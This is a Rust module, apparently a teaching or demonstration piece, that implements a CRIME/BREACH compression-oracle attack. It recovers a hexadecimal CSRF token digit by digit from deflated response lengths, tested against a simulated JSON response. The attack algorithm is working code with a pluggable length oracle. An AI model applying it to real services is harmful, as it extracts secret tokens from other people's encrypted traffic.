//! What the length of a compressed answer says about a secret in it, when a part of the answer can be chosen from outside (CRIME, BREACH).
//! It holds for everything that compresses before it encrypts, whatever the cipher.

use crate::documents::deflated;

const DIGITS: &[u8] = b"0123456789abcdef";
/// Added texts of this many lengths move the end of the stream within its last byte: their sum tells less than a byte.
const FILLERS: usize = 24;

/// How many answers are asked for to find a secret.
pub const fn answers(digits: usize) -> usize {
    digits * DIGITS.len() * FILLERS * 2
}

/// A secret of hexadecimal digits after `mark`, from lengths of answers alone. `length` is the length of an answer with this text in it.
pub fn secret(mark: &str, digits: usize, length: impl Fn(&[u8]) -> usize) -> String {
    let mut found = String::new();
    for _ in 0..digits {
        // The same bytes in another order have the same codes: what remains of the difference is the longer match.
        let shorter_by = |digit: u8| {
            let digit = char::from(digit);
            let sum = |guess: String| {
                (0..FILLERS).map(|filler| length(&with_filler(guess.as_bytes(), filler)) as i64).sum::<i64>()
            };
            sum(format!("{mark}{found}~{digit}")) - sum(format!("{mark}{found}{digit}~"))
        };
        let best = DIGITS.iter().copied().max_by_key(|digit| shorter_by(*digit)).unwrap_or(b'?');
        found.push(char::from(best));
    }
    found
}

/// Bytes that occur nowhere else are literals.
fn with_filler(guess: &[u8], count: usize) -> Vec<u8> {
    let mut text: Vec<u8> = (0..count).map(|index| 128 + index as u8).collect();
    text.extend(guess);
    text
}

/// An answer that repeats what was asked for, and holds a secret.
pub fn answer_length(asked: &[u8], secret: &str) -> usize {
    let mut answer = b"{\"status\":\"nothing found\",\"asked\":\"".to_vec();
    answer.extend(asked);
    answer.extend(format!("\",\"form\":{{\"csrf_token={secret}\",\"sort\":\"price\"}}}}").bytes());
    deflated(&answer, 6).len()
}
